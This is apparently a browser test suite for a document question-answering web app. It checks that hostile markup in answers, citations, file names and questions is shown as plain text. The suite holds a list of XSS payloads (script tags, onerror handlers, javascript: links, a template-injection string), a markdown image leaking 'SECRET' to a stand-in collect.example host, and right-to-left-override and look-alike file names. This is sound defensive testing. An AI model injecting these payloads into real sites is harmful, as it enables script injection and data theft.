// Documents, names, questions and answers of an attacker: nothing runs, nothing leaves, nothing breaks the layout.
import assert from "node:assert/strict";
import { after, before } from "node:test";
import { open, settled, test } from "./browser.mjs";
import { serve } from "./fake_server.mjs";
import * as nouns from "./nouns.mjs";

const XSS = [
  "<img src=x onerror=alert(1)>", "<script>alert(1)</script>", "<svg onload=alert(1)>", "[click](javascript:alert(2))",
  "[click](JaVaScRiPt:alert(2))", "[click](data:text/html,<script>alert(3)</script>)", "![x](https://collect.example/p?d=SECRET)",
  "<a href=\"javascript:alert(4)\">a</a>", "<iframe src=javascript:alert(5)></iframe>", "<https://ok.example/path>", "<javascript:alert(6)>",
  "[a]: javascript:alert(7)\n\n[a]", "<style>*{display:none}</style>", "<base href=https://evil.example>", "<button class=\"marker is-verified\">9</button>",
  "&lt;img src=x onerror=alert(8)&gt;", "[1](https://evil.example \"onmouseover=alert(9)\")", "`<b>code</b>`", "<details open ontoggle=alert(10)>", "{{constructor.constructor('alert(11)')()}}",
].join("\n\n");
const NAME = "\"><img src=x onerror=alert(1)>.pdf";
const TURNED = "Policy\u202efdp.exe";

let server, browser, page;
before(async () => {
  server = await serve(nouns.library());
  browser = await open({ viewport: { width: 360, height: 740 } });
  page = browser.page;
});
after(async () => {
  await browser?.context.close();
  await server?.close();
});

async function visit(hash = "") {
  await page.goto("about:blank");
  browser.problems.length = 0; // what the page that was left had under way ends with it
  await page.goto(server.url + hash);
  await page.waitForSelector("main h1");
}
async function ask(question) {
  await visit();
  await page.waitForSelector("#question");
  await page.fill("#question", question);
  await page.keyboard.press("Enter");
}
async function safe() {
  await settled(page);
  assert.deepEqual(browser.problems, []);
  const wide = await page.evaluate(() => document.documentElement.scrollWidth - innerWidth);
  assert.ok(wide <= 0, `the page is ${wide} px too wide`);
  assert.equal(await page.locator("main img, main script, main iframe, main style, main base, main details[ontoggle]").count(), 0);
  for (const link of await page.locator("main a").evaluateAll((links) => links.map((one) => one.href))) assert.match(link, /^(https?:|mailto:)/);
}

// case SEC-03 1 2 5
test("markup in an answer, streamed and final, is text", async () => {
  const body = nouns.answer({ answer: XSS, citations: [], sentences: [], question: XSS });
  for (const size of [1, 5, 4000]) {
    server.script.events = () => nouns.streamed(body, { size });
    await ask(XSS.slice(0, 3000));
    await page.waitForSelector(".summary");
    await safe();
    const text = await page.innerText(".prose");
    for (const part of ["<img src=x onerror=alert(1)>", "<script>alert(1)</script>", "<svg onload=alert(1)>", "<style>*{display:none}</style>", "[image: x]", "<b>code</b>"]) assert.ok(text.includes(part), part);
    assert.deepEqual(await page.locator(".prose a").evaluateAll((links) => links.map((one) => one.href)), ["https://ok.example/path", "https://evil.example/"]);
    assert.equal(await page.locator(".prose .marker.is-verified").count(), 0);
  }
});

// case SEC-03 1 2
test("markup in passages, spans, names, sections, reasons and notes is text everywhere", async () => {
  const part = { document_name: NAME, section: XSS, text_span: XSS, claim_text: XSS };
  const body = nouns.answer({
    citations: [nouns.citation({ ...part, verdict: "altered_quote", citation_type: "direct_quote", issues: [XSS] })],
    sources: [nouns.source(1, { document_name: NAME, section: XSS, text: XSS, cited: 1 })],
    sentences: [nouns.sentence("Nobody knows about gifts.", "unsupported", [1], nouns.TEXT, [{ text: XSS, start: 0, end: 5 }])],
    verification: nouns.report({ reason: XSS, issues: [XSS] }), notes: [XSS], engine: XSS,
    enforcement: [{ action: "removed_invalid_marker", marker: XSS, at: 0, reason: XSS }],
  });
  server.script.documents = [nouns.document({ name: NAME, source: `../../${NAME}`, error: XSS, warnings: [XSS], status: "failed" })];
  server.script.events = () => nouns.streamed(body);
  await ask("What?");
  await page.waitForSelector(".summary");
  await page.click("summary:has-text('How this answer')");
  await page.hover(".marker[data-number='1']");
  await page.waitForSelector(".card");
  assert.ok((await page.innerText(".card")).includes(NAME));
  await safe();
  await page.click(".marker[data-number='1']");
  await page.waitForSelector(".panel");
  await safe();
  await page.keyboard.press("Escape");
  await page.click("button:has-text('Fact-check')");
  await page.click(".sentence-row");
  await safe();
  await visit("#/documents");
  await page.waitForSelector(".document-row");
  assert.ok((await page.innerText(".document-name")).includes(NAME));
  await safe();
  server.script.upload = () => [422, { title: XSS, status: 422, detail: `${NAME}: ${XSS}` }];
  await page.setInputFiles("input[type=file]", { name: "x.pdf", mimeType: "application/pdf", buffer: Buffer.from("x") });
  await page.waitForSelector(".upload.is-failed");
  await safe();
  server.script.answers = [{ ...body, question: XSS, answer: XSS }];
  await visit("#/answers");
  await page.waitForSelector(".answer-row");
  await safe();
  server.script.refuse = { title: XSS, status: 503, part: XSS, detail: XSS, request_id: XSS };
  await ask("What?");
  await page.waitForSelector(".notice.is-problem");
  server.script.refuse = null;
  await safe();
});

test("a hostile text document is text in the source panel", async () => {
  const text = `${XSS}\n\n${"x".repeat(5000)}\n\nThe warranty lasts twelve months. ${TURNED}`;
  const start = [...text.slice(0, text.indexOf("The warranty"))].length;
  const cited = nouns.notesCitation({ text_span: "The warranty lasts twelve months.", start_index: start, end_index: start + 33, verdict: "verified", number: 1 });
  Object.assign(server.script, nouns.library(), {
    texts: { cccc3333dddd4444: { text, pages: [], sections: [{ path: [XSS], start: 0, end: 10 }] } },
    events: () => nouns.streamed(nouns.answer({ citations: [cited] })),
  });
  await ask("What?");
  await page.waitForSelector(".summary");
  await page.click(".marker[data-number='1']");
  await page.waitForSelector(".span-mark");
  assert.ok((await page.innerText(".text")).includes("<script>alert(1)</script>"));
  assert.ok((await page.innerText(".text")).includes("U+202E"));
  await safe();
});

// case SEC-13 1 2 3
test("look-alike names stay four documents, told apart by their ids, hidden characters spelled out", async () => {
  const names = ["Policy.pdf", "P\u043elicy.pdf", "policy.pdf ", TURNED];
  server.script.documents = names.map((name, at) => nouns.document({ document_id: `${at}${at}${at}${at}0000`, name, source: name }));
  await visit("#/documents");
  await page.waitForSelector(".document-row");
  const shown = await page.locator(".document-name .name").allInnerTexts();
  assert.equal(shown.length, 4);
  assert.equal(new Set(shown).size, 4);
  assert.equal(new Set(await page.locator(".document-name .name-id").allInnerTexts()).size, 4);
  assert.match(shown[3], /Policy⟨U\+202E⟩fdp\.exe/);
  assert.match(shown[2], /policy\.pdf␠/);
  await safe();
  const sources = names.map((name, at) => nouns.source(at + 1, { document_id: `${at}${at}${at}${at}0000`, document_name: name, chunk_id: `${at}` }));
  const citations = names.map((name, at) => nouns.citation({ number: at + 1, document_id: `${at}${at}${at}${at}0000`, document_name: name }));
  server.script.events = () => nouns.streamed(nouns.answer({ sources, citations }));
  await ask("What?");
  await page.waitForSelector(".summary");
  assert.equal(await page.locator(".source-row").count(), 4);
  assert.equal(await page.locator(".heat-document").count(), 4);
  await safe();
});

test("an answer of 1 MB, of hostile Markdown, or of one word is shown and the page stays usable", async () => {
  const texts = [
    `${"A sentence about the policy [1]. ".repeat(200)}\n\n`.repeat(155), "x".repeat(1_000_000), "[".repeat(50_000) + "1" + "]".repeat(50_000),
    "> ".repeat(20_000) + "deep", "- ".repeat(20_000), "*a **b ".repeat(30_000), `| ${"a | ".repeat(3000)}\n|${"-|".repeat(3001)}\n`,
  ];
  for (const text of texts) {
    server.script.events = () => nouns.streamed(nouns.answer({ answer: text, citations: [nouns.citation()], sentences: [] }), { size: 20_000 });
    await ask("What?");
    await page.waitForSelector(".summary");
    await page.click("button:text-is('Copy')");
    await page.keyboard.press("Escape");
    await safe();
  }
});

test("a question is text: in the page, in the history, in the request", async () => {
  server.script.events = () => nouns.streamed(nouns.answer());
  server.queries.length = 0;
  const question = `${TURNED} <img src=x onerror=alert(1)> {"match_all":{}}`;
  await ask(question);
  await page.waitForSelector(".summary");
  assert.equal(server.queries[0].query, question);
  assert.ok((await page.innerText("h1")).includes("U+202E"));
  await page.click(".brand");
  await page.waitForSelector(".recent");
  assert.ok((await page.innerText(".recent")).includes("⟨U+202E⟩"));
  await safe();
});
